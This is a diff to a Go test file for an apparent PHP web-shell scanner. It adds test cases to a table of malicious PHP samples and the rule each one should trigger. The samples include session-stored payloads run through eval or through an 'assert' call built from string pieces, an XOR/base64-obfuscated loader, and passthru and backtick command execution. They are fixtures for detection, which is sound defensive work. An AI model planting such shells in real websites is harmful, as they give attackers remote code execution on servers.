@@ -56,6 +56,9 @@ func TestAnalyze(t *testing.T) {
 			RuleCode, "eval()"},
 		{"session-stored payload", "/var/www/html/s.php", `<?php session_start(); function enc($d,$k){ for($i=0;$i<strlen($d);$i++){ $d[$i] = $d[$i]^$k[$i+1&15]; } return $d; }
 $data = enc(base64_decode($_POST['pass']), 'k'); if (isset($_SESSION['payload'])) { $payload = enc($_SESSION['payload'], 'k'); eval($payload); } else { $_SESSION['payload'] = enc($data, 'k'); } ?>`, RuleCode, "eval()"},
+		{"payload kept in the session, function name built", "/var/www/html/cache/s2.php", "<?php\nsession_start();\n$a = 'as'; $b = 'sert';\n$f = $a.$b;\n$f($_SESSION['k']);\n", RuleCode, ""},
+		{"payload kept in the session, eval", "/var/www/html/s3.php", "<?php @session_start(); $p = $_SESSION['p']; if ($p) { eval(base64_decode($p)); }", RuleCode, "eval()"},
+		{"session value picks a language file", "/var/www/html/lang.php", "<?php session_start(); include __DIR__ . '/lang/' . basename($_SESSION['lang']) . '.php'; echo $_SESSION['user']; system('date');", "", ""},
 		{"extract", "/var/www/html/e.php", `<?php extract($_POST); passthru($c); ?>`, RuleCommand, "passthru()"},
 		{"backticks", "/var/www/html/b.php", "<?php $x = $_GET['x']; echo `$x`; ?>", RuleCommand, "backticks"},
 		{"preg_replace /e", "/var/www/html/p.php", `<?php preg_replace('/.*/e', $_POST['code'], ''); ?>`, RuleCode, "/e"},
